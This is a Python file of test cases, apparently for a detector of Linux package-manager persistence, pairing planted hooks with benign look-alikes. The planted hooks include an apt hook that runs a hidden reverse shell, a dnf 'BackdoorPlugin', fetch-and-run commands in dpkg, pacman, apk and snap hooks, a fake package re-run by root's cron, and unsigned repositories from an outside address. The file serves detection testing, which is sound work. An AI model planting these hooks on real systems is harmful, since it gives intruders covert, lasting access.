"""What package managers run by themselves."""

from __future__ import annotations

from typing import Final

from plantings.case import Act, Case, Twin, both, link, put, run, shell
from plantings.command import ADDRESS, BASH_BACK, FETCH, HIDDEN_BACK, program, tool

_PACKAGES: Final = "Package hooks"

_LANGUAGES: Final = "Language hooks"

_ID: Final = "T1546.016"

_SNAP: Final = "/srv/notes/prime"

_CONF: Final = "/etc/apt/apt.conf.d"

_INFO: Final = "/var/lib/dpkg/info"

_NOTE: Final = Twin(
    "apt-note",
    "a list of packages after each change",
    f"{_CONF}/90-note",
    both(
        tool("/usr/local/sbin/note-packages"),
        put(f"{_CONF}/90-note", 'DPkg::Post-Invoke { "/usr/local/sbin/note-packages"; };\n'),
    ),
)

_SOURCE: Final = Twin(
    "apt-source-vendor",
    "packages of a vendor, signed",
    "/etc/apt/sources.list.d/vendor.list",
    both(
        put("/etc/apt/keyrings/vendor.gpg", b"\x99\x01\x0d\x04" + bytes(60)),
        put(
            "/etc/apt/sources.list.d/vendor.list",
            "deb [signed-by=/etc/apt/keyrings/vendor.gpg] https://packages.vendor.example/debian bookworm main\n",
        ),
    ),
)

_YUM: Final = Twin(
    "yum-vendor",
    "packages of a vendor, signed",
    "/etc/yum.repos.d/vendor.repo",
    put(
        "/etc/yum.repos.d/vendor.repo",
        "[vendor]\nbaseurl=https://packages.vendor.example/el9\ngpgcheck=1\nenabled=1\n",
    ),
)

_PACMAN: Final = Twin(
    "pacman-own",
    "a list of packages after each change",
    "/etc/pacman.d/hooks/list.hook",
    put(
        "/etc/pacman.d/hooks/list.hook",
        "[Trigger]\nOperation = Install\nType = Package\nTarget = *\n\n[Action]\nWhen = PostTransaction\nExec = /usr/bin/pacman -Q\n",
    ),
)


def _apt(slug: str, name: str, text: str, twin: Twin = _NOTE, panix: str = "", *acts: Act) -> Case:
    path = f"{_CONF}/{name}"
    return Case(
        slug, _PACKAGES, _ID, "a command of apt's", path, both(*acts, put(path, text)), twin, panix
    )


CASES: Final = (
    _apt(
        "apt-update",
        "01python-upgrades",
        f'APT::Update::Pre-Invoke {{"{HIDDEN_BACK}"}};\n',
        _NOTE,
        "setup_package_manager_persistence",
    ),
    _apt(
        "apt-program",
        "05compress",
        'DPkg::Pre-Install-Pkgs {"/usr/lib/apt/apt-compress";};\n',
        _NOTE,
        "",
        program("/usr/lib/apt/apt-compress"),
    ),
    Case(
        "dnf-plugin",
        _PACKAGES,
        _ID,
        "a plug-in of dnf that starts a script",
        "/usr/lib/python3.11/site-packages/dnf-plugins/dnfcon.py",
        both(
            run("/usr/lib/python3.11/site-packages/dnfcon", f"#!/bin/bash\n{BASH_BACK}\n"),
            put("/etc/dnf/plugins/dnfcon.conf", "[main]\nenabled=1\n"),
            run(
                "/usr/lib/python3.11/site-packages/dnf-plugins/dnfcon.py",
                "import dnf\nimport os\n\ndef execute_dnfcon():\n    os.system('setsid /usr/lib/python3.11/site-packages/dnfcon 2>/dev/null &')\n\n"
                "class BackdoorPlugin(dnf.Plugin):\n    name = 'dnfcon'\n    def __init__(self, base, cli):\n        execute_dnfcon()\n",
            ),
        ),
        Twin(
            "dnf-plugin-setting",
            "a setting of a plug-in",
            "/etc/dnf/plugins/versionlock.conf",
            put(
                "/etc/dnf/plugins/versionlock.conf",
                "[main]\nenabled = 1\nlocklist = /etc/dnf/plugins/versionlock.list\n",
            ),
            table="file",
        ),
        "setup_package_manager_persistence",
    ),
    Case(
        "dnf-action",
        _PACKAGES,
        _ID,
        "a command after each transaction",
        "/etc/dnf/plugins/post-transaction-actions.d/cache.action",
        put("/etc/dnf/plugins/post-transaction-actions.d/cache.action", f"*:any:sh -c '{FETCH}'\n"),
        _YUM,
    ),
    Case(
        "package-postinst",
        _PACKAGES,
        _ID,
        "a package made by the intruder, whose script cron starts again",
        f"{_INFO}/panix.postinst",
        both(
            run(f"{_INFO}/panix.postinst", shell(f"nohup setsid {BASH_BACK} &")),
            put(f"{_INFO}/panix.list", "/.\n"),
            put(
                "/var/spool/cron/crontabs/root",
                f"*/1 * * * * {_INFO}/panix.postinst configure > /dev/null 2>&1\n",
                0o600,
                (0, 105),
            ),
            lambda disk: disk.append(
                "/var/lib/dpkg/status",
                "\nPackage: panix\nStatus: install ok installed\nMaintainer: nobody\nArchitecture: all\nVersion: 1.0\nDescription: none\n",
                0,
            ),
        ),
        Twin(
            "package-own",
            "a package that an administrator built",
            f"{_INFO}/orders.postinst",
            both(
                run(f"{_INFO}/orders.postinst", shell("systemctl daemon-reload || true")),
                put(f"{_INFO}/orders.list", "/.\n"),
                lambda disk: disk.append(
                    "/var/lib/dpkg/status",
                    "\nPackage: orders\nStatus: install ok installed\nMaintainer: Anna <anna@harbour.example>\nArchitecture: all\nVersion: 1.0\nDescription: orders\n",
                    0,
                ),
            ),
        ),
        "setup_malicious_package",
    ),
    Case(
        "postinst-changed",
        _PACKAGES,
        _ID,
        "a line in the script of a package",
        f"{_INFO}/cron.postinst",
        run(f"{_INFO}/cron.postinst", shell("set -e", FETCH)),
        _NOTE,
    ),
    Case(
        "dpkg-cfg",
        _PACKAGES,
        _ID,
        "a command after each call of dpkg",
        "/etc/dpkg/dpkg.cfg.d/90-cache",
        put("/etc/dpkg/dpkg.cfg.d/90-cache", f'post-invoke="{FETCH}"\n'),
        Twin(
            "dpkg-cfg-own",
            "no documentation",
            "/etc/dpkg/dpkg.cfg.d/01-nodoc",
            put("/etc/dpkg/dpkg.cfg.d/01-nodoc", "path-exclude=/usr/share/doc/*\n"),
            table="file",
        ),
    ),
    Case(
        "apt-source",
        _PACKAGES,
        "T1553",
        "packages from a stranger, trusted without a signature",
        "/etc/apt/sources.list.d/update.list",
        put(
            "/etc/apt/sources.list.d/update.list", f"deb [trusted=yes] http://{ADDRESS}/debian ./\n"
        ),
        _SOURCE,
    ),
    Case(
        "yum-repository",
        _PACKAGES,
        "T1553",
        "packages from a stranger, not verified",
        "/etc/yum.repos.d/update.repo",
        put(
            "/etc/yum.repos.d/update.repo",
            f"[update]\nbaseurl=http://{ADDRESS}/el9\ngpgcheck=0\nenabled=1\n",
        ),
        _YUM,
    ),
    Case(
        "zypp-plugin",
        _PACKAGES,
        _ID,
        "a program of no package for zypper",
        "/usr/lib/zypp/plugins/commit/cache",
        program("/usr/lib/zypp/plugins/commit/cache"),
        _YUM,
    ),
    Case(
        "pacman-hook",
        _PACKAGES,
        _ID,
        "a command after each change",
        "/etc/pacman.d/hooks/cache.hook",
        put(
            "/etc/pacman.d/hooks/cache.hook",
            f"[Trigger]\nOperation = Upgrade\nType = Package\nTarget = *\n\n[Action]\nWhen = PostTransaction\nExec = /bin/sh -c '{FETCH}'\n",
        ),
        _PACMAN,
    ),
    Case(
        "apk-hook",
        _PACKAGES,
        _ID,
        "a command after each change",
        "/etc/apk/commit_hooks.d/cache",
        run("/etc/apk/commit_hooks.d/cache", shell(FETCH)),
        _PACMAN,
    ),
    Case(
        "snap-hook",
        _PACKAGES,
        _ID,
        "code when a snap is set up",
        f"{_SNAP}/meta/hooks/configure",
        both(
            put(f"{_SNAP}/meta/snap.yaml", "name: notes\nversion: 1\nconfinement: devmode\n"),
            run(f"{_SNAP}/meta/hooks/configure", shell(FETCH)),
            # As `snap try` leaves it: a folder in the place of an image.
            link("/var/lib/snapd/snaps/notes_x1.snap", _SNAP),
        ),
        Twin(
            "snap-hook-own",
            "a folder is made when a snap of one's own is set up",
            f"{_SNAP}/meta/hooks/install",
            run(f"{_SNAP}/meta/hooks/install", shell('mkdir -p "$SNAP_DATA/notes"')),
        ),
    ),
)
